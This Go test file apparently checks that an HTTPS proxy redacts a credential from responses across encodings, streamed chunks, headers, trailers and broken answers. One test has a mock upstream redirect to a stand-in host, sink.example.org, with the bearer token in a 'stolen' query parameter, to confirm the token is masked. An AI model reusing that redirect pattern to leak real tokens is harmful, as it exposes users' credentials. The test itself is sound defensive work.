// SPDX-License-Identifier: Apache-2.0

package terminate_test

import (
	"bytes"
	"compress/flate"
	"compress/gzip"
	"compress/zlib"
	"encoding/base64"
	"encoding/hex"
	"fmt"
	"io"
	"net/http"
	"net/url"
	"strings"
	"testing"
	"time"
)

func packed(t testing.TB, kind, text string) []byte {
	t.Helper()
	var b bytes.Buffer
	var w io.WriteCloser
	switch kind {
	case "gzip":
		w = gzip.NewWriter(&b)
	case "zlib":
		w = zlib.NewWriter(&b)
	case "flate":
		w, _ = flate.NewWriter(&b, 5)
	default:
		return []byte(text)
	}
	if _, err := io.WriteString(w, text); err != nil {
		t.Fatal(err)
	}
	if err := w.Close(); err != nil {
		t.Fatal(err)
	}
	return b.Bytes()
}

// A value that comes back is taken out, however the host packs it.
func TestAnswersAreRedacted(t *testing.T) {
	t.Parallel()
	const shown = "before <credential:token> after"
	tests := map[string]struct {
		encoding, packing string
		text              string
		status            int
		want              string
	}{
		"plain":             {text: "before " + value + " after", want: shown},
		"base64":            {text: "before " + base64.StdEncoding.EncodeToString([]byte(value)) + " after", want: shown},
		"hex":               {text: "before " + hex.EncodeToString([]byte(value)) + " after", want: shown},
		"percent":           {text: "before " + url.QueryEscape(value) + " after", want: shown},
		"identity":          {encoding: "identity", text: "before " + value + " after", want: shown},
		"gzip":              {encoding: "gzip", packing: "gzip", text: "before " + value + " after", want: shown},
		"x-gzip":            {encoding: "X-GZIP", packing: "gzip", text: "before " + value + " after", want: shown},
		"deflate":           {encoding: "deflate", packing: "zlib", text: "before " + value + " after", want: shown},
		"deflate, no frame": {encoding: "deflate", packing: "flate", text: "before " + value + " after", want: shown},
		"brotli":            {encoding: "br", text: "x", status: http.StatusBadGateway, want: "encoding_refused"},
		"twice":             {encoding: "gzip, gzip", text: "x", status: http.StatusBadGateway, want: "encoding_refused"},
		"a part":            {status: http.StatusPartialContent, text: "x", want: "upstream_failed"},
	}
	for name, tt := range tests {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			w := newWorld(t, func(rw http.ResponseWriter, _ *http.Request) {
				if tt.encoding != "" {
					rw.Header().Set("Content-Encoding", tt.encoding)
				}
				if tt.status == http.StatusPartialContent {
					rw.WriteHeader(tt.status)
				}
				_, _ = rw.Write(packed(t, tt.packing, tt.text))
			})
			got := w.do(w.client(), http.MethodGet, "/", nil, nil)
			want := http.StatusOK
			if tt.status != 0 {
				want = http.StatusBadGateway
			}
			if got.StatusCode != want || !strings.Contains(got.body, tt.want) || got.Header.Get("Content-Encoding") != "" {
				t.Errorf("got %d %v %q", got.StatusCode, got.Header, got.body)
			}
		})
	}
}

// A value is found across the pieces that it comes in, and a line before it is not held back.
func TestSplitAcrossChunks(t *testing.T) {
	t.Parallel()
	next := make(chan struct{})
	w := newWorld(t, func(rw http.ResponseWriter, r *http.Request) {
		flush := http.NewResponseController(rw)
		for i, piece := range []string{"first.\n", value[:5], value[5:11], value[11:] + " last"} {
			if i > 0 {
				select {
				case <-next:
				case <-r.Context().Done():
					return
				}
			}
			_, _ = io.WriteString(rw, piece)
			_ = flush.Flush()
		}
	})
	resp, err := w.client().Get("https://" + host)
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	got := make([]byte, 7)
	if _, err := io.ReadFull(resp.Body, got); err != nil || string(got) != "first.\n" {
		t.Fatalf("got %q, %v before the rest", got, err)
	}
	close(next)
	rest, err := io.ReadAll(resp.Body)
	if err != nil || string(rest) != "<credential:token> last" {
		t.Errorf("got %q, %v", rest, err)
	}
}

func TestTrailersAndHeadersAreRedacted(t *testing.T) {
	t.Parallel()
	w := newWorld(t, func(rw http.ResponseWriter, _ *http.Request) {
		h := rw.Header()
		h.Set("Trailer", "X-Sum")
		h["X-Many"] = []string{"one", "two " + value}
		h["X-"+hex.EncodeToString([]byte(value))] = []string{"a name"}
		h.Set("Content-Type", "text/x-test")
		_, _ = io.WriteString(rw, "body")
		_ = http.NewResponseController(rw).Flush()
		h.Set("X-Sum", "it is "+value)
		h.Set(http.TrailerPrefix+"X-Late", value)
	})
	got := w.do(w.client(), http.MethodGet, "/", nil, nil)
	if got.Trailer.Get("X-Sum") != "it is <credential:token>" || got.Trailer.Get("X-Late") != "<credential:token>" {
		t.Errorf("the trailers are %v", got.Trailer)
	}
	if many := got.Header["X-Many"]; len(many) != 2 || many[1] != "two <credential:token>" || got.Header.Get("Content-Type") != "text/x-test" || len(got.Header) > 4 {
		t.Errorf("the header is %v", got.Header)
	}
}

// A redirect is the client's to follow, and takes no value along.
func TestRedirectToASink(t *testing.T) {
	t.Parallel()
	w := newWorld(t, func(rw http.ResponseWriter, r *http.Request) {
		rw.Header().Set("Location", "https://sink.example.org/?stolen="+url.QueryEscape(strings.TrimPrefix(r.Header.Get("Authorization"), "Bearer ")))
		rw.WriteHeader(http.StatusFound)
	})
	got := w.do(w.client(), http.MethodGet, "/", http.Header{"Authorization": {"Bearer " + w.handle(0)}}, nil)
	if got.StatusCode != http.StatusFound || got.Header.Get("Location") != "https://sink.example.org/?stolen=<credential:token>" || len(w.requests()) != 1 {
		t.Errorf("got %d %v after %d requests", got.StatusCode, got.Header, len(w.requests()))
	}
}

func TestAnswersWithoutBody(t *testing.T) {
	t.Parallel()
	w := newWorld(t, func(rw http.ResponseWriter, r *http.Request) {
		rw.Header().Set("Etag", `"x"`)
		switch r.URL.Path {
		case "/204":
			rw.WriteHeader(http.StatusNoContent)
		case "/304":
			rw.WriteHeader(http.StatusNotModified)
		case "/early":
			rw.WriteHeader(http.StatusEarlyHints)
			rw.WriteHeader(http.StatusProcessing)
		case "/gzip":
			rw.Header().Set("Content-Encoding", "gzip")
		default:
			rw.Header().Set("Content-Length", "1234")
		}
	})
	client := w.client()
	for _, tt := range []struct {
		method, path string
		status       int
	}{{"HEAD", "/", 200}, {"GET", "/204", 204}, {"GET", "/304", 304}, {"GET", "/early", 200}, {"HEAD", "/gzip", 200}, {"DELETE", "/204", 204}} {
		got := w.do(client, tt.method, tt.path, nil, nil)
		if got.StatusCode != tt.status || got.body != "" || got.Header.Get("Etag") != `"x"` {
			t.Errorf("%s %s gives %d %v %q", tt.method, tt.path, got.StatusCode, got.Header, got.body)
		}
	}
	if n := strings.Count(w.log.String(), `"verdict":"allow"`); n != 1 {
		t.Errorf("%d connections, want one that all answers leave in order", n)
	}
}

// An answer that breaks off does not look whole, and the beginning of a value at its end does not come through.
func TestBrokenAnswers(t *testing.T) {
	t.Parallel()
	w := newWorld(t, func(rw http.ResponseWriter, r *http.Request) {
		if r.URL.Path == "/gzip" {
			rw.Header().Set("Content-Encoding", "gzip")
			b := packed(t, "gzip", strings.Repeat("some text ", 1000))
			_, _ = rw.Write(b[:len(b)/2])
			return
		}
		rw.Header().Set("Content-Length", "1000")
		_, _ = io.WriteString(rw, "begun "+value[:len(value)-1])
		_ = http.NewResponseController(rw).Flush()
		panic(http.ErrAbortHandler)
	})
	for _, path := range []string{"/", "/gzip"} {
		resp, err := w.client().Get("https://" + host + path)
		if err != nil {
			continue
		}
		body, err := io.ReadAll(resp.Body)
		resp.Body.Close()
		if err == nil || strings.Contains(string(body), value[:8]) {
			t.Errorf("%s: got %q, %v", path, body, err)
		}
	}
}

// Bodies are passed on while they come, in both directions, and are not kept.
func TestLargeBodies(t *testing.T) {
	t.Parallel()
	const size = 64 << 20
	w := newWorld(t, func(rw http.ResponseWriter, r *http.Request) {
		if r.Method == http.MethodGet {
			_, _ = io.CopyN(rw, endless{}, size)
			return
		}
		n, err := io.Copy(io.Discard, r.Body)
		fmt.Fprint(rw, n, " ", err)
	})
	client := w.client()
	got := w.do(client, http.MethodPut, "/", nil, io.LimitReader(endless{}, size))
	if got.body != fmt.Sprint(size, " <nil>") {
		t.Errorf("the host got %q", got.body)
	}
	resp, err := client.Get("https://" + host)
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	if n, err := io.Copy(io.Discard, resp.Body); n != size || err != nil {
		t.Errorf("the client got %d, %v", n, err)
	}
}

type endless struct{}

func (endless) Read(p []byte) (int, error) {
	for i := range p {
		p[i] = 'x'
	}
	return len(p), nil
}

// A request's body reaches the host before it is complete.
func TestRequestBodiesAreStreamed(t *testing.T) {
	t.Parallel()
	arrived := make(chan string, 1)
	w := newWorld(t, func(_ http.ResponseWriter, r *http.Request) {
		b := make([]byte, 5)
		_, _ = io.ReadFull(r.Body, b)
		arrived <- string(b)
		_, _ = io.Copy(io.Discard, r.Body)
	})
	reader, writer := io.Pipe()
	done := make(chan answer, 1)
	go func() { done <- w.do(w.client(), http.MethodPut, "/", nil, reader) }()
	if _, err := io.WriteString(writer, "first"); err != nil {
		t.Fatal(err)
	}
	select {
	case got := <-arrived:
		if got != "first" {
			t.Errorf("got %q", got)
		}
	case <-time.After(2 * time.Minute):
		t.Error("nothing arrived before the end")
	}
	writer.Close()
	if got := <-done; got.StatusCode != http.StatusOK {
		t.Errorf("got %d", got.StatusCode)
	}
}
